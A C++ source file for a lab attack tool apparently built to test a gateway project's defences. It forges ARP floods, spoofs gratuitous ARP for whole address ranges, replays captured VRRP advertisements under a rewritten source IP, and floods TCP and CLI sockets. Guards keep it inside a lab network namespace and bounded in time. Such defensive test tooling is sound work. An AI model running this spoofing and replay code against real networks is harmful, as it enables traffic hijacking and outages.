// wg-attack: the attacks of the `hostile` suite (tests/hostile, docs/lab.md),
// as real frames on the lab's LAN. Every mode is bounded in count and time
// and stops by itself. The modes that send (everything but cli-pipeline)
// refuse to run in the machine's own network namespace: run them with
// `ip netns exec wg-... wg-attack MODE ...` inside the lab.
//
//   arp-flood   --iface IF --rate PPS --seconds S --senders A-B --targets A-B [--target IP]...
//               ARP requests (RFC 826) from random sender IPs in A-B with random locally
//               administered MACs, for random targets in A-B; each --target is asked for
//               instead one time in two (the devices' addresses, the VIP).
//   arp-spoof   --iface IF --mac M (--range A-B | --hosts FILE) [--rate PPS]
//               one gratuitous ARP reply per host (sender = target = the host's IP,
//               RFC 5227 §3) claiming it for M. FILE: one IPv4 address per line.
//   arp-claim   --iface IF --ip X --mac M [--count N] [--listen-ms T] [--op request|reply]
//               gratuitous ARPs (default: replies, which nobody answers) claiming X for M,
//               then listens T ms for ARP frames whose sender is X at another MAC (the
//               owner's defence, RFC 5227 §2.4).
//   advert-replay --iface IF --vrid V --src IP [--from IP] [--count N] [--interval-ms T]
//               waits (at most 10 s) for one VRRP advertisement of group V (from --from
//               if given), then sends it N times with the IP source rewritten to IP (the
//               IPv4 checksum recomputed; VRRPv2's checksum and md5 data do not cover
//               the IP header, docs/vrrp-auth.md). Ethernet source: this port's MAC.
//   tcp-connect --to IP:PORT [--bind IP] --count N [--rate PER_S]
//               N plain TCP connections, each closed at once (a stranger at the sync port).
//   cli-pipeline --socket PATH --count N [--json] [--hold-ms T] [--words "display arp"]
//               N requests (control/cli_proto.hpp) in one write, then T ms without reading.
//
// Each mode prints one JSON object on stdout with what it achieved (frames
// sent, rate reached, ...). Exit code 0 on success, 1 on a runtime failure,
// 2 on a usage error.
#include "control/cli_proto.hpp"

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cinttypes>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <map>
#include <optional>
#include <random>
#include <set>
#include <string>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;
using Mac = std::array<uint8_t, 6>;

// Bounds: whatever the arguments, a mode ends.
constexpr double kMaxSeconds = 120;
constexpr uint64_t kMaxRate = 1'000'000;
constexpr uint64_t kMaxCount = 1'000'000;
constexpr size_t kFrameLen = 60; // minimum Ethernet frame without FCS

[[noreturn]] void usage(const char* why) {
    std::fprintf(stderr, "wg-attack: %s\n(see the head of scripts/tools/wg-attack.cpp for the modes)\n", why);
    std::exit(2);
}
[[noreturn]] void fail(const std::string& why) {
    std::fprintf(stderr, "wg-attack: %s\n", why.c_str());
    std::exit(1);
}

double secs_since(Clock::time_point t0) {
    return std::chrono::duration<double>(Clock::now() - t0).count();
}

// --key value options; --flag alone holds "1". Repeated keys accumulate.
struct Args {
    std::multimap<std::string, std::string> kv;
    std::optional<std::string> get(const std::string& k) const {
        auto it = kv.find(k);
        if (it == kv.end()) return std::nullopt;
        return it->second;
    }
    std::string need(const std::string& k) const {
        auto v = get(k);
        if (!v) usage(("missing --" + k).c_str());
        return *v;
    }
    uint64_t num(const std::string& k, uint64_t dflt, uint64_t max) const {
        auto v = get(k);
        if (!v) return dflt;
        char* end = nullptr;
        const unsigned long long n = std::strtoull(v->c_str(), &end, 10);
        if (v->empty() || *end != '\0' || n > max)
            usage(("--" + k + " must be a number up to " + std::to_string(max)).c_str());
        return n;
    }
    std::vector<std::string> all(const std::string& k) const {
        std::vector<std::string> out;
        auto [b, e] = kv.equal_range(k);
        for (auto it = b; it != e; ++it)
            out.push_back(it->second);
        return out;
    }
};

Args parse(int argc, char** argv, int from, const std::set<std::string>& flags) {
    Args a;
    for (int i = from; i < argc; ++i) {
        std::string k = argv[i];
        if (k.rfind("--", 0) != 0) usage(("unexpected argument " + k).c_str());
        k = k.substr(2);
        if (flags.count(k)) {
            a.kv.emplace(k, "1");
            continue;
        }
        if (i + 1 >= argc) usage(("--" + k + " needs a value").c_str());
        a.kv.emplace(k, argv[++i]);
    }
    return a;
}

uint32_t parse_ip(const std::string& s) { // host order
    in_addr a{};
    if (inet_pton(AF_INET, s.c_str(), &a) != 1) usage(("not an IPv4 address: " + s).c_str());
    return ntohl(a.s_addr);
}
std::string ip_text(uint32_t ip) {
    in_addr a{};
    a.s_addr = htonl(ip);
    char buf[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &a, buf, sizeof buf);
    return buf;
}
std::pair<uint32_t, uint32_t> parse_range(const std::string& s) {
    const auto dash = s.find('-');
    if (dash == std::string::npos) {
        const uint32_t ip = parse_ip(s);
        return {ip, ip};
    }
    const uint32_t lo = parse_ip(s.substr(0, dash)), hi = parse_ip(s.substr(dash + 1));
    if (hi < lo) usage(("empty range " + s).c_str());
    return {lo, hi};
}
Mac parse_mac(const std::string& s) {
    Mac m{};
    unsigned v[6];
    if (std::sscanf(s.c_str(), "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6)
        usage(("not a MAC address: " + s).c_str());
    for (int i = 0; i < 6; ++i) {
        if (v[i] > 255) usage(("not a MAC address: " + s).c_str());
        m[size_t(i)] = uint8_t(v[i]);
    }
    return m;
}
std::string mac_text(const uint8_t* m) {
    char buf[18];
    std::snprintf(buf, sizeof buf, "%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2], m[3], m[4], m[5]);
    return buf;
}

// The sending modes run only inside a namespace of their own: never on the
// machine's real network.
void require_lab_namespace() {
    struct stat self {
    }, init{};
    if (stat("/proc/self/ns/net", &self) != 0) fail("cannot read /proc/self/ns/net");
    if (stat("/proc/1/ns/net", &init) == 0 && self.st_ino == init.st_ino && self.st_dev == init.st_dev)
        fail("refusing to send in the machine's own network namespace: run it with ip netns exec");
}

// ------------------------------------------------------------------ raw port

class RawPort {
  public:
    explicit RawPort(const std::string& iface) {
        require_lab_namespace();
        fd_ = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
        if (fd_ < 0) fail("socket(AF_PACKET): " + std::string(std::strerror(errno)));
        ifindex_ = int(if_nametoindex(iface.c_str()));
        if (ifindex_ == 0) fail("no interface " + iface + " in this namespace");
        sockaddr_ll sll{};
        sll.sll_family = AF_PACKET;
        sll.sll_protocol = htons(ETH_P_ALL);
        sll.sll_ifindex = ifindex_;
        if (bind(fd_, reinterpret_cast<sockaddr*>(&sll), sizeof sll) != 0)
            fail("bind " + iface + ": " + std::strerror(errno));
        ifreq ifr{};
        std::snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", iface.c_str());
        if (ioctl(fd_, SIOCGIFHWADDR, &ifr) != 0) fail("SIOCGIFHWADDR " + iface);
        std::memcpy(mac_.data(), ifr.ifr_hwaddr.sa_data, 6);
        int sndbuf = 4 << 20;
        setsockopt(fd_, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
    }
    ~RawPort() { close(fd_); }
    RawPort(const RawPort&) = delete;
    RawPort& operator=(const RawPort&) = delete;

    const Mac& mac() const { return mac_; }

    // Sends frames[0..n); returns how many left (ENOBUFS/EAGAIN count as not sent).
    size_t send_batch(std::vector<std::array<uint8_t, kFrameLen>>& frames, size_t n) {
        std::vector<iovec> iov(n);
        std::vector<mmsghdr> msgs(n);
        for (size_t i = 0; i < n; ++i) {
            iov[i] = {frames[i].data(), kFrameLen};
            msgs[i] = {};
            msgs[i].msg_hdr.msg_iov = &iov[i];
            msgs[i].msg_hdr.msg_iovlen = 1;
        }
        size_t done = 0;
        while (done < n) {
            const int r = sendmmsg(fd_, msgs.data() + done, unsigned(n - done), 0);
            if (r < 0) {
                if (errno == EINTR) continue;
                break;
            }
            done += size_t(r);
        }
        return done;
    }
    bool send_one(const uint8_t* frame, size_t len) { return send(fd_, frame, len, 0) == ssize_t(len); }

    // One received frame (not our own outgoing ones) within `timeout`; empty when none.
    std::vector<uint8_t> receive(std::chrono::milliseconds timeout) {
        pollfd p{fd_, POLLIN, 0};
        if (poll(&p, 1, int(timeout.count())) <= 0) return {};
        std::vector<uint8_t> buf(2048);
        sockaddr_ll from{};
        socklen_t fl = sizeof from;
        const ssize_t n = recvfrom(fd_, buf.data(), buf.size(), 0, reinterpret_cast<sockaddr*>(&from), &fl);
        if (n <= 0 || from.sll_pkttype == PACKET_OUTGOING) return {};
        buf.resize(size_t(n));
        return buf;
    }

  private:
    int fd_ = -1;
    int ifindex_ = 0;
    Mac mac_{};
};

void put16(uint8_t* p, uint16_t v) {
    p[0] = uint8_t(v >> 8);
    p[1] = uint8_t(v);
}
void put32(uint8_t* p, uint32_t v) {
    for (int i = 0; i < 4; ++i)
        p[i] = uint8_t(v >> (24 - 8 * i));
}
uint32_t get32(const uint8_t* p) {
    return uint32_t(p[0]) << 24 | uint32_t(p[1]) << 16 | uint32_t(p[2]) << 8 | p[3];
}

constexpr Mac kBroadcast{0xff, 0xff, 0xff, 0xff, 0xff, 0xff};

// An Ethernet + IPv4 ARP frame (RFC 826), padded to 60 bytes.
void build_arp(uint8_t* f, const Mac& eth_dst, const Mac& sha, uint32_t spa, const Mac& tha, uint32_t tpa,
               uint16_t op) {
    std::memset(f, 0, kFrameLen);
    std::memcpy(f, eth_dst.data(), 6);
    std::memcpy(f + 6, sha.data(), 6);
    put16(f + 12, 0x0806);
    put16(f + 14, 1);      // htype Ethernet
    put16(f + 16, 0x0800); // ptype IPv4
    f[18] = 6;
    f[19] = 4;
    put16(f + 20, op);
    std::memcpy(f + 22, sha.data(), 6);
    put32(f + 28, spa);
    std::memcpy(f + 32, tha.data(), 6);
    put32(f + 38, tpa);
}

// Sends `total` frames built by make(i, frame) at `rate` per second (0: as
// fast as possible) within `seconds`.
struct Paced {
    uint64_t sent = 0, failed = 0; // failed: the kernel refused them (ENOBUFS)
    double seconds = 0;
};
template <class Make>
Paced paced(RawPort& port, uint64_t total, uint64_t rate, double seconds, Make make) {
    constexpr size_t kBatch = 64;
    std::vector<std::array<uint8_t, kFrameLen>> frames(kBatch);
    uint64_t built = 0, sent = 0;
    const auto t0 = Clock::now();
    while (built < total) {
        const double el = secs_since(t0);
        if (el >= seconds) break;
        const uint64_t due = rate == 0 ? total : std::min<uint64_t>(total, uint64_t(el * double(rate)) + 1);
        if (due <= built) {
            std::this_thread::sleep_for(std::chrono::microseconds(200));
            continue;
        }
        const size_t n = size_t(std::min<uint64_t>(kBatch, due - built));
        for (size_t i = 0; i < n; ++i)
            make(built + i, frames[i].data());
        built += n;
        sent += port.send_batch(frames, n);
    }
    return {sent, built - sent, secs_since(t0)};
}

// ------------------------------------------------------------------ modes

int arp_flood(const Args& a) {
    RawPort port(a.need("iface"));
    const uint64_t rate = a.num("rate", 60000, kMaxRate);
    const double seconds = double(a.num("seconds", 10, uint64_t(kMaxSeconds)));
    const auto [s_lo, s_hi] = parse_range(a.need("senders"));
    const auto [t_lo, t_hi] = parse_range(a.need("targets"));
    std::vector<uint32_t> extra;
    for (const auto& t : a.all("target"))
        extra.push_back(parse_ip(t));
    std::mt19937_64 rng(a.num("seed", 1, UINT32_MAX));
    const Mac zero{};
    const uint64_t total = std::min<uint64_t>(uint64_t(double(rate) * seconds), kMaxCount * 10);
    const Paced p = paced(port, total, rate, seconds, [&](uint64_t, uint8_t* f) {
        const uint64_t r = rng();
        Mac sha{uint8_t((r & 0xfc) | 0x02), uint8_t(r >> 8),  uint8_t(r >> 16),
                uint8_t(r >> 24),           uint8_t(r >> 32), uint8_t(r >> 40)};
        const uint32_t spa = s_lo + uint32_t((r >> 20) % (uint64_t(s_hi - s_lo) + 1));
        const uint64_t r2 = rng();
        uint32_t tpa = t_lo + uint32_t(r2 % (uint64_t(t_hi - t_lo) + 1));
        if (!extra.empty() && (r2 >> 40) % 2 == 0) tpa = extra[size_t((r2 >> 41) % extra.size())];
        build_arp(f, kBroadcast, sha, spa, zero, tpa, 1);
    });
    std::printf("{\"mode\": \"arp-flood\", \"offered_pps\": %" PRIu64 ", \"sent\": %" PRIu64
                ", \"send_failed\": %" PRIu64 ", \"seconds\": %.3f, \"achieved_pps\": %.0f}\n",
                rate, p.sent, p.failed, p.seconds, p.seconds > 0 ? double(p.sent) / p.seconds : 0.0);
    return 0;
}

std::vector<uint32_t> host_list(const Args& a) {
    std::vector<uint32_t> hosts;
    if (auto file = a.get("hosts")) {
        std::ifstream in(*file);
        if (!in) fail("cannot read " + *file);
        std::string line;
        while (std::getline(in, line) && hosts.size() < kMaxCount)
            if (!line.empty()) hosts.push_back(parse_ip(line));
    } else {
        const auto [lo, hi] = parse_range(a.need("range"));
        for (uint64_t ip = lo; ip <= hi && hosts.size() < kMaxCount; ++ip)
            hosts.push_back(uint32_t(ip));
    }
    return hosts;
}

int arp_spoof(const Args& a) {
    RawPort port(a.need("iface"));
    const Mac mac = a.get("mac") ? parse_mac(*a.get("mac")) : port.mac();
    const std::vector<uint32_t> hosts = host_list(a);
    const uint64_t rate = a.num("rate", 0, kMaxRate);
    const Paced p = paced(port, hosts.size(), rate, kMaxSeconds, [&](uint64_t i, uint8_t* f) {
        build_arp(f, kBroadcast, mac, hosts[i], kBroadcast, hosts[i], 2);
    });
    const uint64_t sent = p.sent;
    const double elapsed = p.seconds;
    std::printf("{\"mode\": \"arp-spoof\", \"mac\": \"%s\", \"hosts\": %zu, \"sent\": %" PRIu64
                ", \"seconds\": %.3f}\n",
                mac_text(mac.data()).c_str(), hosts.size(), sent, elapsed);
    return sent == hosts.size() ? 0 : 1;
}

int arp_claim(const Args& a) {
    RawPort port(a.need("iface"));
    const uint32_t ip = parse_ip(a.need("ip"));
    const Mac mac = a.get("mac") ? parse_mac(*a.get("mac")) : port.mac();
    const uint64_t count = a.num("count", 1, 100);
    const auto listen = std::chrono::milliseconds(a.num("listen-ms", 2000, 30000));
    const std::string op = a.get("op").value_or("reply");
    if (op != "request" && op != "reply") usage("--op must be request or reply");
    const Mac zero{};
    std::array<uint8_t, kFrameLen> f{};
    uint64_t sent = 0;
    for (uint64_t i = 0; i < count; ++i) {
        if (op == "request")
            build_arp(f.data(), kBroadcast, mac, ip, zero, ip, 1);
        else
            build_arp(f.data(), kBroadcast, mac, ip, mac, ip, 2);
        sent += port.send_one(f.data(), f.size());
    }
    // The owner's defence: ARP from `ip` at another MAC (RFC 5227 §2.4 (b)).
    uint64_t defences = 0, other_arp = 0;
    std::set<std::string> macs;
    const auto t0 = Clock::now();
    for (auto left = listen; left.count() > 0;
         left = listen - std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - t0)) {
        const auto fr = port.receive(left);
        if (fr.size() < 42 || fr[12] != 0x08 || fr[13] != 0x06) continue;
        if (get32(fr.data() + 28) == ip && std::memcmp(fr.data() + 22, mac.data(), 6) != 0) {
            ++defences;
            macs.insert(mac_text(fr.data() + 22));
        } else {
            ++other_arp;
        }
    }
    std::string list;
    for (const auto& m : macs)
        list += (list.empty() ? "\"" : ", \"") + m + "\"";
    std::printf("{\"mode\": \"arp-claim\", \"ip\": \"%s\", \"mac\": \"%s\", \"sent\": %" PRIu64
                ", \"listen_ms\": %lld, \"defence_frames\": %" PRIu64 ", \"defence_macs\": [%s], "
                "\"other_arp\": %" PRIu64 "}\n",
                ip_text(ip).c_str(), mac_text(mac.data()).c_str(), sent, (long long)listen.count(), defences,
                list.c_str(), other_arp);
    return sent == count ? 0 : 1;
}

uint16_t ip_checksum(const uint8_t* h, size_t len) {
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < len; i += 2)
        sum += uint32_t(h[i]) << 8 | h[i + 1];
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return uint16_t(~sum);
}

int advert_replay(const Args& a) {
    RawPort port(a.need("iface"));
    const unsigned vrid = unsigned(a.num("vrid", 1, 255));
    const uint32_t src = parse_ip(a.need("src"));
    const bool any_source = !a.get("from");
    const uint32_t from = any_source ? 0 : parse_ip(*a.get("from"));
    const uint64_t count = a.num("count", 10, 10000);
    const auto interval = std::chrono::milliseconds(a.num("interval-ms", 500, 10000));
    // Capture: IPv4, protocol 112, to 224.0.0.18, VRRP type 1 of `vrid`.
    std::vector<uint8_t> advert;
    const auto t0 = Clock::now();
    while (advert.empty() && secs_since(t0) < 10) {
        auto fr = port.receive(std::chrono::milliseconds(500));
        if (fr.size() < 14 + 20 + 8 || fr[12] != 0x08 || fr[13] != 0x00) continue;
        const uint8_t* ip = fr.data() + 14;
        const size_t ihl = size_t(ip[0] & 0x0f) * 4;
        if ((ip[0] >> 4) != 4 || ihl < 20 || fr.size() < 14 + ihl + 8 || ip[9] != 112) continue;
        if (get32(ip + 16) != 0xe0000012) continue;
        if (!any_source && get32(ip + 12) != from) continue;
        const uint8_t* v = ip + ihl;
        if ((v[0] & 0x0f) != 1 || v[1] != vrid) continue;
        advert = std::move(fr);
    }
    if (advert.empty()) fail("no VRRP advertisement of vrid " + std::to_string(vrid) + " seen within 10 s");
    uint8_t* ip = advert.data() + 14;
    const size_t ihl = size_t(ip[0] & 0x0f) * 4;
    const uint32_t orig = get32(ip + 12);
    const unsigned priority = ip[ihl + 2];
    put32(ip + 12, src);
    ip[10] = ip[11] = 0;
    put16(ip + 10, ip_checksum(ip, ihl));
    std::memcpy(advert.data() + 6, port.mac().data(), 6);
    uint64_t sent = 0;
    const auto t1 = Clock::now();
    for (uint64_t i = 0; i < count; ++i) {
        if (i > 0) std::this_thread::sleep_until(t1 + interval * i);
        sent += port.send_one(advert.data(), advert.size());
    }
    std::printf("{\"mode\": \"advert-replay\", \"vrid\": %u, \"captured_from\": \"%s\", \"priority\": %u, "
                "\"replayed_src\": \"%s\", \"bytes\": %zu, \"sent\": %" PRIu64 ", \"seconds\": %.3f}\n",
                vrid, ip_text(orig).c_str(), priority, ip_text(src).c_str(), advert.size(), sent,
                secs_since(t1));
    return sent == count ? 0 : 1;
}

int tcp_connect(const Args& a) {
    require_lab_namespace();
    const std::string to = a.need("to");
    const auto colon = to.rfind(':');
    if (colon == std::string::npos) usage("--to IP:PORT");
    sockaddr_in dst{};
    dst.sin_family = AF_INET;
    dst.sin_addr.s_addr = htonl(parse_ip(to.substr(0, colon)));
    dst.sin_port = htons(uint16_t(std::atoi(to.c_str() + colon + 1)));
    const bool bind_source = a.get("bind").has_value();
    const uint32_t bind_ip = bind_source ? parse_ip(*a.get("bind")) : 0;
    const uint64_t count = a.num("count", 50, 100000);
    const uint64_t rate = a.num("rate", 10, 10000);
    uint64_t connected = 0, refused = 0, failed = 0;
    const auto t0 = Clock::now();
    for (uint64_t i = 0; i < count && secs_since(t0) < kMaxSeconds; ++i) {
        if (rate > 0) std::this_thread::sleep_until(t0 + std::chrono::microseconds(i * 1'000'000 / rate));
        const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        if (fd < 0) fail("socket: " + std::string(std::strerror(errno)));
        if (bind_source) {
            sockaddr_in src{};
            src.sin_family = AF_INET;
            src.sin_addr.s_addr = htonl(bind_ip);
            if (bind(fd, reinterpret_cast<sockaddr*>(&src), sizeof src) != 0)
                fail("bind " + ip_text(bind_ip) + ": " + std::strerror(errno));
        }
        int r = connect(fd, reinterpret_cast<sockaddr*>(&dst), sizeof dst);
        int err = r == 0 ? 0 : errno;
        if (err == EINPROGRESS) {
            pollfd p{fd, POLLOUT, 0};
            if (poll(&p, 1, 1000) == 1) {
                socklen_t l = sizeof err;
                getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &l);
            } else {
                err = ETIMEDOUT;
            }
        }
        if (err == 0)
            ++connected;
        else if (err == ECONNREFUSED)
            ++refused;
        else
            ++failed;
        close(fd);
    }
    std::printf("{\"mode\": \"tcp-connect\", \"to\": \"%s\", \"count\": %" PRIu64 ", \"connected\": %" PRIu64
                ", \"refused\": %" PRIu64 ", \"failed\": %" PRIu64 ", \"seconds\": %.3f}\n",
                to.c_str(), count, connected, refused, failed, secs_since(t0));
    return 0;
}

int cli_pipeline(const Args& a) {
    const std::string path = a.need("socket");
    const uint64_t count = a.num("count", 30, 10000);
    const auto hold = std::chrono::milliseconds(a.num("hold-ms", 5000, 60000));
    wg::control::proto::Request req;
    req.json = a.get("json").has_value();
    const std::string words = a.get("words").value_or("display arp");
    for (size_t p = 0; p < words.size();) {
        const size_t sp = words.find(' ', p);
        const std::string w = words.substr(p, sp == std::string::npos ? std::string::npos : sp - p);
        if (!w.empty()) req.words.push_back(w);
        p = sp == std::string::npos ? words.size() : sp + 1;
    }
    std::vector<uint8_t> frame, all;
    std::string err;
    if (!wg::control::proto::encode_request(req, frame, err)) usage(err.c_str());
    for (uint64_t i = 0; i < count; ++i)
        all.insert(all.end(), frame.begin(), frame.end());
    const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) fail("socket(AF_UNIX): " + std::string(std::strerror(errno)));
    int rcvbuf = 4096; // a greedy client that does not read: its window stays small
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof rcvbuf);
    sockaddr_un sa{};
    sa.sun_family = AF_UNIX;
    if (path.size() >= sizeof sa.sun_path) usage("--socket path too long");
    std::memcpy(sa.sun_path, path.c_str(), path.size());
    if (connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa) != 0)
        fail("connect " + path + ": " + std::strerror(errno));
    const auto t0 = Clock::now();
    const ssize_t w = write(fd, all.data(), all.size()); // one write: the pipelined requests
    std::this_thread::sleep_for(hold);
    close(fd);
    std::printf("{\"mode\": \"cli-pipeline\", \"requests\": %" PRIu64 ", \"bytes\": %zu, \"written\": %zd, "
                "\"held_ms\": %lld, \"seconds\": %.3f}\n",
                count, all.size(), w, (long long)hold.count(), secs_since(t0));
    return w == ssize_t(all.size()) ? 0 : 1;
}

} // namespace

int main(int argc, char** argv) {
    if (argc < 2) usage("usage: wg-attack MODE [--option value]...");
    const std::string mode = argv[1];
    std::setvbuf(stdout, nullptr, _IOLBF, 0);
    if (mode == "arp-flood") return arp_flood(parse(argc, argv, 2, {}));
    if (mode == "arp-spoof") return arp_spoof(parse(argc, argv, 2, {}));
    if (mode == "arp-claim") return arp_claim(parse(argc, argv, 2, {}));
    if (mode == "advert-replay") return advert_replay(parse(argc, argv, 2, {}));
    if (mode == "tcp-connect") return tcp_connect(parse(argc, argv, 2, {}));
    if (mode == "cli-pipeline") return cli_pipeline(parse(argc, argv, 2, {"json"}));
    usage(("unknown mode " + mode).c_str());
}
